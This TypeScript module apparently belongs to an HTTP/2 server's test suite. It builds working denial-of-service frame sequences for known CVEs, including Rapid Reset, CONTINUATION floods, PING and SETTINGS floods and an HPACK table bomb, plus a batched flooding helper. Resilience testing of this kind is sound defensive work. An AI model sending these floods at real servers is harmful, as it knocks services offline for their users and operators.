import { frame, frameFlag, frameType, headerBlock, number31, type RawHttp2, request, requestFields, settings } from './raw-http2.ts';

/** Something that a client can send without end, and that costs it nothing. */
export interface Flood {
  what: string;
  /** the bytes of each turn; the first opens a stream where one is needed */
  bytes: (turn: number) => Uint8Array;
  /** Goes on whatever the server does, in which case it has to cost the server nothing either. */
  isHarmless?: boolean;
}

const path = '/healthz';
const stream = (turn: number) => 2 * turn + 1;
const open = (method: string) => frame(frameType.headers, frameFlag.endHeaders, 1, headerBlock(requestFields(path, method)));
const unended = frame(frameType.headers, 0, 1, headerBlock(requestFields(path)));
/** A header of 4 KB for the table that is kept (RFC 7541 section 6.2.1: name of a letter, value of 4,000), and then the entry 4,000 times. */
const bomb = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 'x'), Buffer.alloc(4_000, 0x80 | 62)]);
const { endHeaders, endStream } = frameFlag;

/** The floods that servers of HTTP/2 have fallen to. */
export const floods: Flood[] = [
  {
    what: 'requests that are taken back at once (CVE-2023-44487)',
    bytes: (turn) => Buffer.concat([request(stream(turn), path), frame(frameType.rstStream, 0, stream(turn), number31(8))]),
  },
  {
    what: 'requests that the server is made to take back (CVE-2025-8671)',
    bytes: (turn) => Buffer.concat([request(stream(turn), path), frame(frameType.windowUpdate, 0, stream(turn), number31(0))]),
  },
  {
    what: 'CONTINUATION without end (CVE-2024-27316)',
    bytes: (turn) => (turn === 0 ? unended : frame(frameType.continuation, 0, 1, headerBlock([[`x-${turn}`, 'y'.repeat(100)]]))),
  },
  { what: 'empty CONTINUATION without end', bytes: (turn) => (turn === 0 ? unended : frame(frameType.continuation, 0, 1)) },
  { what: 'PING (CVE-2019-9512)', bytes: () => frame(frameType.ping, 0, 0, Buffer.alloc(8)) },
  { what: 'SETTINGS (CVE-2019-9515)', bytes: () => settings({}) },
  { what: 'WINDOW_UPDATE beyond 2^31 (CVE-2026-21714)', bytes: () => frame(frameType.windowUpdate, 0, 0, number31(0x7fff_ffff)) },
  {
    what: 'a bomb of HPACK',
    bytes: (turn) =>
      frame(frameType.headers, endHeaders | endStream, stream(turn), Buffer.concat([headerBlock(requestFields(path)), bomb])),
  },
  {
    what: 'empty DATA without end (CVE-2019-9518)',
    bytes: (turn) => (turn === 0 ? open('POST') : frame(frameType.data, 0, 1)),
    isHarmless: true,
  },
  { what: 'PRIORITY (CVE-2019-9513)', bytes: () => frame(frameType.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1])), isHarmless: true },
  { what: 'WINDOW_UPDATE of 1', bytes: () => frame(frameType.windowUpdate, 0, 0, number31(1)), isHarmless: true },
  { what: 'frames of no known type', bytes: () => frame(0x77, 0, 0, Buffer.alloc(8)), isHarmless: true },
];

/** Asks for the answer of a frame some at a time and waits for it, so that none is in the way of the next; gives how often it could. */
export async function floodPolitely(client: RawHttp2, bytes: Uint8Array, answerType: number, turns: number): Promise<number> {
  const batch = 50;
  let done = 0;
  for (; done < turns && !client.socket.destroyed; done += batch) {
    await client.flood(() => bytes, batch);
    await client.until(
      () => client.frames.filter(({ type, flags }) => type === answerType && flags === frameFlag.ack).length >= done + batch,
    );
  }
  return done;
}
